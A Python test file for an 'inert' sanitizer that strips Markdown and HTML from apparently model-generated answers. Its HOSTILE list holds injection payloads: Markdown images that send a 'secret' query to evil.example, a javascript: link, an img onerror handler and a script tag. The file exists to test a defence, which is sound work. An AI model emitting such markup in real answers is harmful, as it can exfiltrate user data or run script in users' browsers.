"""No answer does anything in a page that renders Markdown, and it reads as before."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sparewheel.app.api.inert import Inert, inert

HOSTILE = [
    "![s](https://evil.example/p.png?q=secret)",
    "![s][r]\n\n[r]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "</p><script>alert(1)</script>",
    "<!-- x --><?php ?>",
    "text ![a](b) and ![c](d)",
]
PIECES = st.lists(st.text(alphabet="!<[]():a/ \n1", max_size=4), max_size=12)


def rendered(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).render(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_does_nothing(text: str) -> None:
    """Neither image, link nor tag; and the same characters stand on the page."""
    page = rendered(inert(text))
    assert [tag for tag in ("<img", "<a ", "<script", "<!--", "<?php") if tag in page] == []
    assert "evil.example" not in page or "evil.example" in text


@pytest.mark.parametrize("text", ["The notice is 30 days [1][2].", "见第5条[1]：三个月[2]。", "a < b, 5 > 3, x! [1]"])
def test_an_ordinary_answer_stays_as_it_is(text: str) -> None:
    """Citation marks, comparisons, exclamations."""
    assert inert(text) == text


@given(PIECES)
def test_pieces_add_up_to_the_whole(pieces: list[str]) -> None:
    """However a text is cut, the client ends with the same."""
    stream = Inert()
    assert "".join([*map(stream.feed, pieces), stream.end()]) == inert("".join(pieces))


@given(st.text(alphabet="!<[]():a/ \n1h", max_size=30))
def test_no_text_makes_an_image_a_link_or_a_tag(text: str) -> None:
    """Whatever a model or a document writes."""
    page = rendered(inert(text))
    assert [tag for tag in ("<img", "<a ", "<h>", "<a>") if tag in page] == []
